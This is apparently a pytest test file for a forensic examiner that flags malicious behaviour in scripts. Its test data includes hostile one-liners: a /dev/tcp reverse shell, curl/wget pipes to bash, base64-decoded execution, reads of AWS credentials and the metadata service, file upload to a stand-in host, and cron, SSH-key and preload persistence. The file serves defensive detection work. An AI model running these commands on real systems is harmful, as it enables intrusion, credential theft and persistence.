"""What the script examiner says of scripts, of text that runs, and of text that only speaks."""

from __future__ import annotations

import base64

import pytest

from forensics.examine import Examination, load_signatures
from forensics.limits import Limits
from forensics.model.facts import ScriptFacts

EXAMINATION = Examination(load_signatures())


def _facts(text: str) -> ScriptFacts | None:
    return EXAMINATION.examine(text.encode(), "").script


def _behaviours(text: str) -> list[str]:
    facts = _facts(text)
    return [seen.identifier for seen in facts.behaviours] if facts else []


SEEN = [
    ("download", "curl -o /opt/x https://a.invalid/x"),
    ("download-execute", "wget -qO- https://a.invalid/x | sudo bash -s"),
    ("download-execute", "bash <(curl -s https://a.invalid/x)"),
    ("decode-execute", "echo aWQ7IGlkOyBpZA== | base64 -d | sh"),
    ("reverse-shell", "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"),
    ("credential-read", "cat ~/.aws/credentials"),
    ("metadata-service", "x=http://169.254.169.254/latest/meta-data/"),
    ("process-scrape", "strings /proc/*/environ"),
    ("network-send", "curl -F file=@/etc/hostname a.invalid"),
    ("cron-write", "echo '* * * * * root x' > /etc/cron.d/x"),
    ("service-write", "systemctl enable x"),
    ("ssh-key-write", "echo key >> /root/.ssh/authorized_keys"),
    ("preload-write", "echo /lib/x.so > /etc/ld.so.preload"),
    ("login-hook-write", "echo x >> ~/.bashrc"),
    ("account-change", "echo root:x | chpasswd"),
    ("setuid-grant", "chmod u+s /usr/bin/find"),
    ("trace-removal", "history -c"),
    ("run-from-temp", "chmod +x /tmp/x"),
    ("weaken-defence", "setenforce 0"),
    ("immutable", "chattr +i /etc/cron.d/x"),
    ("background", "nohup /opt/x &"),
    ("container-escape", "nsenter -t 1 -m sh"),
    ("mining", "x -o stratum+tcp://pool.invalid:3333"),
    ("raw-address", "x http://203.0.113.9/x"),
]


@pytest.mark.parametrize(("behaviour", "line"), SEEN)
def test_a_line_shows_what_it_does_and_where(behaviour: str, line: str) -> None:
    facts = _facts(f"#!/bin/sh\n{line}\n")
    assert facts is not None
    (seen,) = (each for each in facts.behaviours if each.identifier == behaviour)
    assert 10 <= seen.offset < 10 + len(line)
    assert seen.offset + seen.length <= 10 + len(line)


@pytest.mark.parametrize(
    "line",
    [
        "curl --version | head -1",
        "echo bash curl wget",
        "resync -e /bin/shells",
        "mycurl https://a.invalid/x",
        "x http://127.0.0.1/x",
        "chmod 755 /usr/bin/x",
        "cd /tmp; ls",
    ],
)
def test_a_plain_line_shows_nothing(line: str) -> None:
    assert _behaviours(f"#!/bin/sh\n{line}\n") == []


def test_what_is_decoded_counts_where_the_encoding_stands() -> None:
    hidden = base64.b64encode(b"chattr +i /etc/cron.d/x\n").decode()
    text = f"#!/bin/sh\necho {hidden} | base64 -d | sh\n"
    facts = _facts(text)
    assert facts is not None
    (seen,) = (each for each in facts.behaviours if each.identifier == "immutable")
    assert (seen.offset, seen.length) == (text.index(hidden), len(hidden))
    assert facts.decoded[0].text.rstrip() == "chattr +i /etc/cron.d/x"


def test_signatures_see_what_is_decoded() -> None:
    hidden = base64.b64encode(b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n").decode()
    facts = EXAMINATION.examine(f"#!/bin/sh\necho {hidden} | base64 -d | sh\n".encode(), "")
    (match,) = (each for each in facts.matches if each.rule_id == "backdoor/shell-device")
    assert match.strings[0].identifier.startswith("base64:")


@pytest.mark.parametrize(
    ("text", "language"),
    [
        ("#!/usr/bin/env python3\npass\n", "python"),
        ("#!/bin/sh\n:\n", "sh"),
        ("import os\nos.system('chattr +i /etc/x')\n", "python"),
        ("* * * * * root chattr +i /etc/x\n", "cron"),
        ("[Service]\nExecStart=/bin/sh -c 'chattr +i /etc/x'\n", "systemd"),
        ("if [ -e /x ]; then\nchattr +i /etc/x\nfi\n", "sh"),
        ("const a = require('a')\nexec('chattr +i /etc/x')\n", "javascript"),
        ("<?php system('chattr +i /etc/x');\n", "php"),
    ],
)
def test_the_language_is_told_by_the_first_line_or_by_words(text: str, language: str) -> None:
    facts = _facts(text)
    assert facts is not None
    assert facts.language == language


@pytest.mark.parametrize(
    "start",
    [
        "<!DOCTYPE html>\n",
        ".TH CHATTR 1\n",
        "Attributes\n==========\n",
        "# Files\n\nThis page is about files.\n\n",
    ],
)
def test_prose_speaks_of_commands_and_runs_none(start: str) -> None:
    assert _facts(f"{start}chattr +i /etc/x\n") is None


@pytest.mark.parametrize(
    "start", ["# Set up\n\nPATH=/bin\n", "####\n# Set up #\n####\n", "# jobs\n\n* * * * * root ", "=\n=\n=\n"]
)
def test_a_comment_at_the_start_does_not_make_prose_of_a_program(start: str) -> None:
    assert _behaviours(f"{start}chattr +i /etc/x\n") == ["immutable"]


def test_text_that_does_nothing_is_no_script() -> None:
    assert _facts("one\ntwo\n") is None


def test_lines_are_counted_and_the_longest_measured() -> None:
    facts = _facts("#!/bin/sh\n: 0123456789\nlast")
    assert facts is not None
    assert (facts.lines, facts.longest_line) == (3, 12)


def test_what_lies_beyond_the_bound_of_texts_is_said() -> None:
    short = Examination(load_signatures(), Limits(text_bytes=20))
    facts = short.examine(b"#!/bin/sh\n" + b": padding\n" * 9 + b"chattr +i /etc/cron.d/x\n", "")
    assert facts.script is not None
    assert facts.script.behaviours == ()
    assert [(issue.code, issue.lost_bytes) for issue in facts.issues] == [("limit", 0)]
    assert "defense-evasion/immutable" in {match.rule_id for match in facts.matches}
